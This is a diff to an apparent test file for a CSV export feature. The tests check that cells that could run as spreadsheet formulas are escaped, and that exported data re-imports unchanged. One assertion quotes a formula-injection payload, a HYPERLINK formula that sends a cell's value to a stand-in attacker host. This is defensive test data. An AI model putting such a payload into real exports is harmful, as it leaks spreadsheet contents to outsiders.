@@ -7,7 +7,7 @@ import { parseFile } from '../graph/import/formats.js';
 import { importParsed } from '../graph/import/run.js';
 import type { DatasetInput } from '../graph/schema/index.js';
 import { validateAndLoad } from '../graph/store/check.js';
-import { exportDataset } from '../graph/store/export.js';
+import { exportDataset, exportGraph } from '../graph/store/export.js';
 import { freshGraph } from './support/graph.js';
 
 // Values a spreadsheet would run as formulas if a CSV cell began with them.
@@ -36,8 +36,8 @@ beforeAll(async () => {
 });
 
 it('starts no exported cell with =, +, - or @: each such cell is kept as text behind an apostrophe', () => {
-  return exportDataset().then((data) => {
-    const sheet = renderExport('csv', data, { includeProtected: false }).get('organisations.csv') ?? '';
+  return exportGraph().then((data) => {
+    const sheet = renderExport('csv', data).get('organisations.csv') ?? '';
     const cells = sheet.split(/\r?\n/).flatMap((line) => line.split(','));
     for (const cell of cells) expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@\t\r]/);
     expect(sheet).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1`);
@@ -49,7 +49,7 @@ it('starts no exported cell with =, +, - or @: each such cell is kept as text be
 it('re-imports the export with the template mappings to the very same values', async () => {
   const before = await exportDataset();
   const file = join(tmp, 'organisations.csv');
-  writeFileSync(file, renderExport('csv', before, { includeProtected: false }).get('organisations.csv') ?? '');
+  writeFileSync(file, renderExport('csv', await exportGraph()).get('organisations.csv') ?? '');
   await freshGraph();
   const report = await importParsed([
     await parseFile(file, { mapping: 'graph/import/template/organisations.mapping.json' }),
